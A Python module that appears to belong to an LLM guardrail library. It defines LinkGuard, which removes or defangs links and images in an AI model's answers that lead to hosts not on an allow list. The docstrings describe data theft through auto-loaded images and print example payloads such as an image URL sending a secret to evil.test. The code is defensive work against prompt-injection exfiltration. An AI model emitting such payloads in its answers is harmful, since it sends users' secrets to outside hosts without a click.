r"""Where the links and images of an answer lead: the way by which most stolen data leaves.

An image is fetched as soon as it is shown, so ``![.](https://evil.test/?q=SECRET)`` sends the secret to whoever owns
the host, without a click. It can be written in dozens of ways, and every renderer knows some more. So two things are
looked for: *destinations*, where Markdown, HTML and CSS want an address, each with its own disguises undone; and
addresses with a scheme *anywhere*, since many renderers make links of them::

    [label](dest "title")   ![alt](<dest>)   [id]: dest   <dest>   https://...   www....
    <img src=dest srcset="dest 2x, dest 3x" style="background: url(dest)">   <meta content="0;url=dest">

    disguises   \: of Markdown    &#58; &colon; of HTML    \3a of CSS    tabs and line breaks inside    //host   \\host

Whether a destination is fine is decided as in the arguments of tools: a listed host and scheme, in a form that no two
parsers read in different ways. One without a host stays on the page that shows it, and is fine.

What is put in the place of a finding cannot become a part of another link: ``[a](//evil.test)(//evil.test)`` would, if
only the first destination were taken out.

Source: CommonMark 0.31 sections 4.7 and 6.3 to 6.6; GitHub Flavored Markdown, autolinks; the HTML Standard, section 4;
CSS Syntax Level 3, escapes.
"""

from __future__ import annotations

import functools
import html
import re
from typing import TYPE_CHECKING, Literal
from urllib.parse import quote

from beluga.errors import GuardBlocked
from beluga.guards._urls import hosts_of, schemes_of, trouble_in, trouble_with
from beluga.guards.base import GuardResult
from beluga.guards.streaming import Passages, RedactionStream, Window, replaced

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from beluga.guards.base import Finding

    Found = tuple[int, int, str]

__all__ = ["LinkGuard"]

_ACTIONS = ("strip", "text", "block")

# A passage goes on over the blanks inside of brackets, of a destination and of a tag, but not over a blank line.
_INNER = r"\\[^\n]?+|\n(?![ \t]*\n)"
_QUOTED = "|".join(rf"{mark}(?:[^{mark}\\\n]|{_INNER})*+{mark}?+" for mark in "\"'")
_PARENS = r"(?:\\\S?+|[^\s()\\]|\((?:\\\S?+|[^\s()\\]|\([^\s()]*+\)?+)*+\)?+)*+"
_GAP = r"[ \t]*+\n?+[ \t]*+"
_DEST = rf"(?:<(?:\\[^\n]?+|[^<>\n\\])*+>?+|{_PARENS})"
_TITLE = rf"(?:{_GAP}(?:{_QUOTED}|\((?:[^()\\\n]|{_INNER})*+\)?+))?+{_GAP}"
_BEHIND = rf"(?:\({_GAP}{_DEST}{_TITLE}\)?+|:{_GAP}\S*+)?+"
_LABEL = functools.reduce(lambda inner, _: rf"\[(?:[^\[\]\\\n]|{_INNER}|{inner})*+\]?+{_BEHIND}", range(4), "(?!)")
_TAG = rf"<[a-zA-Z/!?](?:{_QUOTED}|[^<>\"'\n]|\n(?![ \t]*\n))*+>?+"
_CSS = rf"(?:(?i:url)\(|@(?i:import)){_GAP}[\"']?+"
_CSS_DEST = r"(?:\\[0-9a-fA-F]{1,6}+[ \t]?+|[^\s\"')])*+"
_PASSAGES = Passages(
    (re.compile(r"[\[\]<&\\]|//|:[/\\]|[wW]{3}\.|(?i:url)\(|@(?i:import)"),),
    re.compile(rf"(?:{_LABEL}|\]{_BEHIND}|{_TAG}|{_CSS}{_CSS_DEST}|[^\s\[\]])++"),
    limit=4096,
    reach=2048,
)

# What is in a passage
_BRACKET = re.compile(r"\\.|!?\[|\]", re.DOTALL)
# Here all that was opened is closed: else each of a row of `](` would be followed to the end.
_TARGET = re.compile(rf"\({_GAP}({_DEST}){_TITLE}\)".replace(r"\)?+", r"\)"))
_DEFINITION = re.compile(rf":{_GAP}(\S++)")
_OPENED = re.compile(_TAG)
_TAG_NAME = re.compile(r"<([a-zA-Z][^\s/>]*)")
_ATTRIBUTE = re.compile(
    r"(?<![^\s\"'<>/=])[^\s\"'<>/=]++\s*+=\s*+(?:\"(?P<double>[^\"]*+)\"?+|'(?P<single>[^']*+)'?+|(?P<bare>[^\s\"'>][^\s>]*+))"
)
_STYLE = re.compile(f"{_CSS}({_CSS_DEST})")
_REST = r"[^\s\"'<>`{}|^\[\]]"
_ADDRESS = re.compile(
    rf"(?i)(?<![a-z0-9+.-])(?:[a-z0-9+.-]{{2,}}+:(?=//|\\\\)|https?:[/\\])(?:[/\\]*\[[\w.]*:[\w:.]*\])?{_REST}*"
    rf"|(?<![\w@./\\-])www\.(?=\w){_REST}+"
    rf"|(?<=[\"'(=])(?:/[/\\]|\\/|\\\\(?=[\w-]+\.[\w-])){_REST}+"
)
_USERINFO = re.compile(r"[^\s<>/?#\\]*@")
_DISGUISED = re.compile(r"(?<![^\s\"'<>()])[^\s\"'<>()&\\]*+[&\\][^\s\"'<>()]*+")
_CLOSING = ".,;:!?)]*_~"

# Tags that wait for a click; what others refer to is loaded at once.
_CLICKED = frozenset({"a", "area", "form", "button", "q", "blockquote", "del", "ins"})
_ADDRESSES = frozenset(
    "href src action formaction background poster data cite longdesc manifest archive codebase icon profile lowsrc "
    "dynsrc xlink:href data-src data-href classid usemap srcset imagesrcset data-srcset ping to from by values".split()
)
_CODE = frozenset({"style", "srcdoc", "content"})

# Disguises
_MARKDOWN_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_CSS_ESCAPE = re.compile(r"\\(?:([0-9a-fA-F]{1,6})\s?|(.))|/\*.*?\*/", re.DOTALL)
_CONTROLS = re.compile(r"[\x00-\x1f\x7f]+")
_SCHEME = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*:")
_TELLING = re.compile(r"[:/\\%]|[^\x00-\x7f]")  # without one of these it is a name on the same page
_WORD = re.compile(r"[\w.+-]*:")  # such as `[1234]: error: ...`, which leads nowhere
# A line of a log, such as `[INFO]: db:connected`, defines a link in form alone, unless something opens such links.
_LOGGED = re.compile(
    r"(?i)(?!(?:javascript|vbscript|data|file|blob|about|mailto|tel|sms|smsto|callto|facetime|skype|whatsapp|intent|market"
    r"|chrome|edge|ms-[\w-]+|urn|geo|magnet|bitcoin|view-source|livescript|mocha|jar|x-[\w-]+):)[a-z][\w-]{0,30}:[\w.-]{1,40}"
)
# What a document type names is fetched by nobody who shows a page, and these hosts would get nothing from it.
_DOCTYPE = re.compile(
    r"(?i)<!doctype\s+[\w.:-]+\s+(?:public\s+[\"'][\w/ .:+-]{1,80}[\"']|system)\s+[\"']https?://(?:www\.)?"
    r"(?:w3\.org|apple\.com|oasis-open\.org|java\.sun\.com|hibernate\.org|mybatis\.org|springframework\.org|docbook\.org"
    r"|openmobilealliance\.org|wapforum\.org|daisy\.org|checkstyle\.org|jboss\.org|qt\.io)/[\w./-]{1,80}\.dtd"
    r"[\"']\s*>"
)
_HOST_NEXT = re.compile(r"[/\\]{2}")
_REASON = "an address leads to a host that is not listed"
_NO_PLACEHOLDER = re.compile("(?!)")


class LinkGuard:
    """Lets links and images of an answer lead to listed hosts only.

    It knows Markdown, HTML and CSS, plain addresses, and their usual disguises, also inside of code. Addresses without
    a host, such as ``/help#top``, pass. In a stream it holds back a word, and a link or a tag up to its end.

    Args:
        hosts: The hosts that links may lead to, each with its subdomains.
        images: The hosts that images may come from, and all else that is loaded without a click, such as frames and
            style sheets; None means `hosts`. Where they differ, an image by reference is not shown, as its definition
            may come later or be a link's.
        schemes: What addresses may begin with. ``mailto`` stands for mail to `hosts`.
        action: ``"strip"`` takes the address out and leaves the label, ``"text"`` shows it in a form that nothing makes
            a link of (``hxxps[:]``), ``"block"`` blocks the answer.

    Raises:
        TypeError: `hosts`, `images` or `schemes` is one string instead of several.
        ValueError: A host or a scheme is not one, or there is no such action.

    Example:
        >>> guard = LinkGuard(["example.com"], images=["img.shields.io"])
        >>> guard.redact("See [our page](https://example.com/a) and [this](https://evil.test/?q=secret).")
        'See [our page](https://example.com/a) and [this]().'
        >>> guard.redact("![badge](https://img.shields.io/x?label=[build])")
        '![badge](https://img.shields.io/x?label=[build])'

    Source: Greshake et al., Not what you've signed up for (2023), section 4, for the attack.
    """

    name = "link_guard"

    def __init__(
        self,
        hosts: Iterable[str],
        *,
        images: Iterable[str] | None = None,
        schemes: Iterable[str] = ("https",),
        action: Literal["strip", "text", "block"] = "strip",
    ) -> None:
        if action not in _ACTIONS:
            message = f"there is no action {action!r}; choose one of {', '.join(_ACTIONS)}"
            raise ValueError(message)
        self.hosts: tuple[str, ...] = hosts_of(hosts, "hosts")
        self.images: tuple[str, ...] = self.hosts if images is None else hosts_of(images, "images")
        self.schemes: frozenset[str] = schemes_of(schemes)
        self.action: str = action
        # Without the bracket that opened it, a destination may be of either.
        self._lists = {"link": (self.hosts,), "image": (self.images,), "": (self.hosts, self.images)}

    def __repr__(self) -> str:
        return f"LinkGuard({[*self.hosts]}, images={[*self.images]}, action={self.action!r})"

    def scan(self, text: str) -> tuple[Finding, ...]:
        """Return the places of what leads elsewhere, and of what kind that is.

        Kinds are ``link`` and ``image``, and, where the address is not shown, ``definition``, ``style``, ``attribute``,
        and ``reference`` for an image whose definition stands elsewhere.
        """
        return tuple(self._window().advance(text, final=True)[0])

    def redact(self, text: str) -> str:
        """Return `text` with the addresses that lead elsewhere taken out, or shown as text.

        Raises:
            GuardBlocked: There is one, and the guard blocks.
        """
        return replaced(text, len(text), [*self.scan(text)], self._replace)

    def validate(self, content: str, *, role: str = "output") -> GuardResult:  # noqa: ARG002 - every role alike
        """Allow `content`, without the addresses that lead elsewhere, or block it."""
        findings = self.scan(content)
        if not findings:
            return GuardResult(allowed=True, guard=self.name)
        if self.action == "block":
            return GuardResult(False, _REASON, guard=self.name, findings=findings)
        clean = replaced(content, len(content), [*findings], self._replace)
        return GuardResult(True, _REASON, clean, self.name, findings)

    def stream(self) -> RedactionStream:
        """Open a stream that does to a text as it arrives what `redact` does to all of it."""
        return RedactionStream(self._window(), self._replace, _PASSAGES.limit)

    def _window(self) -> Window:
        return Window(_PASSAGES, self._detect, _NO_PLACEHOLDER)

    def _replace(self, finding: Finding, text: str, following: str) -> str:  # noqa: ARG002 - the stream's contract
        if self.action == "block":
            # Neither the address nor its host is named: what was stolen may be in it.
            message = f"{self.name} blocked the output: {_REASON}"
            raise GuardBlocked(message, findings=(finding,), guard=self.name, stage="output")
        if finding.kind == "reference":
            return "]()" + text[1:]
        if finding.kind == "attribute":
            return f'{text.partition("=")[0]}=""'
        target = _TARGET.fullmatch(text)
        displayed = self.action == "text" and finding.kind in {"link", "image"}
        shown = _inert(target[1] if target else text) if displayed else ""
        if target or text.startswith("("):  # the bracket before it would be a reference without its parentheses
            return f"() ({shown})" if shown else "()"
        return shown or "(LINK)"

    def _detect(self, before: str, passage: str) -> list[Found]:
        """Return what in `passage` leads elsewhere; `before` is the text in front of it."""
        found: list[Found] = []
        pieces, last = [before], 0
        for start, end, kind, away in sorted(self._destinations(passage)):
            if away:
                found.append((start, end, kind))
            if end > last:  # an address in it has been judged; one anywhere else is a link
                pieces += (passage[last:start], " " * (end - max(start, last)))
                last = end
        found += self._plain("".join((*pieces, passage[last:])), len(before))
        return _merged(found)

    def _destinations(self, passage: str) -> Iterator[tuple[int, int, str, bool]]:
        """Yield the destinations: start and end of what is to be replaced, its kind, and whether it leads away."""
        if "]" in passage:
            yield from self._in_markdown(passage)
        for match in _STYLE.finditer(passage):
            yield *match.span(1), "style", self._away(_style(match[1]), "image")
        for doctype in _DOCTYPE.finditer(passage):
            yield *doctype.span(), "attribute", False
        if "=" in passage:
            for tag in _OPENED.finditer(passage):
                yield from self._in_tag(tag)

    def _in_markdown(self, passage: str) -> Iterator[tuple[int, int, str, bool]]:
        opened: list[str] = []
        for bracket in _BRACKET.finditer(passage):
            if bracket[0] != "]":
                if bracket[0][0] != "\\":
                    opened.append("image" if bracket[0][0] == "!" else "link")
                continue
            kind = opened.pop() if opened else ""
            if target := _TARGET.match(passage, bracket.end()):
                yield *target.span(), kind or "link", self._away(target[1], kind)
            elif kind == "image":
                yield *bracket.span(), "reference", self.images != self.hosts
            elif named := _DEFINITION.match(passage, bracket.end()):
                away = not _LOGGED.fullmatch(named[1]) and self._away(named[1], "link")
                yield *named.span(1), "definition", away

    def _in_tag(self, tag: re.Match[str]) -> Iterator[tuple[int, int, str, bool]]:
        name = _TAG_NAME.match(tag[0])
        kind = "" if name is None else "link" if name[1].lower() in _CLICKED else "image"
        for match in _ATTRIBUTE.finditer(tag[0]):
            start, end = match.span()
            value = html.unescape(match[match.lastgroup or 0])
            yield tag.start() + start, tag.start() + end, "attribute", self._attribute(match[0], value, kind)

    def _attribute(self, text: str, value: str, kind: str) -> bool:
        """Say whether the value of an attribute leads away."""
        name = text.partition("=")[0].strip().lower()
        if name in _ADDRESSES:
            return any(
                self._away(part, kind)
                for part in (value, *re.split(r"[\s,;]+" if name == "values" else r"[\s,]+", value))
            )
        if name.startswith("xmlns"):
            return False  # the name of a language, which nobody fetches
        if name == "srcdoc" and self._detect("", value):
            return True
        if name in _CODE:
            return any(trouble_in(_style(value), hosts, self.schemes) for hosts in self._lists["image"])
        return bool(_HOST_NEXT.match(value.strip()) or self._plain(value, 0))

    def _away(self, destination: str, kind: str) -> bool:
        """Say whether what stands where an address is wanted leads to another host than one of those for `kind`."""
        destination = destination.removeprefix("<").removesuffix(">")
        for form in {destination, html.unescape(_MARKDOWN_ESCAPE.sub(r"\1", destination))}:
            address = _CONTROLS.sub("", form).strip().replace(" ", "%20")
            if _HOST_NEXT.match(address):
                return True
            if not _TELLING.search(address) or _WORD.fullmatch(address):
                continue
            for hosts in self._lists[kind]:
                trouble = _SCHEME.match(address) and trouble_with(address, hosts, self.schemes)
                if (trouble or trouble_in(address, hosts, self.schemes)) and not self._is_known(address, kind):
                    return True
        return False

    def _is_known(self, address: str, kind: str) -> bool:  # noqa: ARG002 - for those who know of more than hosts
        return False

    def _plain(self, text: str, offset: int, *, disguised: bool = True) -> list[Found]:
        """Return the addresses in plain text that lead away, those that end behind `offset`."""
        found = []
        for match in _ADDRESS.finditer(text):
            start, address = match.start(), match[0].rstrip(_CLOSING)
            if text[start - 1 : start + 1] in {"\\n", "\\r", "\\t"}:  # of a text in JSON
                start, address = start + 1, address[1:]
            end = start + len(address)
            empty = address.rstrip("/\\").endswith(":")
            if end > offset and not empty and self._leads_away(text, start, address):
                found.append((max(start - offset, 0), end - offset, "link"))
        for match in _DISGUISED.finditer(text, offset) if disguised else ():
            clear = html.unescape(_MARKDOWN_ESCAPE.sub(r"\1", match[0]))
            if clear != match[0] and self._plain(clear, 0, disguised=False):
                found.append((match.start() - offset, match.end() - offset, "link"))
        return found

    def _leads_away(self, text: str, start: int, address: str) -> bool:
        if address[:4].lower() == "www.":
            address, schemes = f"https://{address}", self.schemes | {"https"}
        elif ":" not in address:
            return True
        else:
            schemes = self.schemes
            # Some make a link of more than we do; what ends in @ is a name in front of the host.
            if _USERINFO.match(text, start + address.find(":") + 3):
                return True
        return bool(trouble_in(address, self.hosts, schemes)) and not self._is_known(address, "link")


def _merged(found: list[Found]) -> list[Found]:
    """Return findings sorted, overlapping ones as one."""
    merged: list[Found] = []
    for start, end, kind in sorted(found):
        if merged and start < merged[-1][1]:
            first, last, first_kind = merged[-1]
            merged[-1] = (first, max(end, last), first_kind)
        else:
            merged.append((start, end, kind))
    return merged


def _style(text: str) -> str:
    """Return CSS with its escapes undone and its comments taken out."""

    def clear(match: re.Match[str]) -> str:
        code = int(match[1], 16) if match[1] else 0
        return chr(code) if 0 < code < 0x110000 else match[2] or ""

    return _CSS_ESCAPE.sub(clear, text)


def _inert(address: str) -> str:
    """Return an address in a form of which nothing makes a link, as those who write about attacks do."""
    clear = html.unescape(_MARKDOWN_ESCAPE.sub(r"\1", address.removeprefix("<").removesuffix(">")))
    clear = _CONTROLS.sub("", clear).strip().rstrip(_CLOSING)
    if clear.startswith(("//", "\\\\")):
        clear = f"https:{clear}"
    if clear[:4].lower() == "http":
        clear = f"hxxp{clear[4:]}"
    return quote(clear, safe="/:?#=@,+~", errors="replace").replace(".", "[.]").replace(":", "[:]")
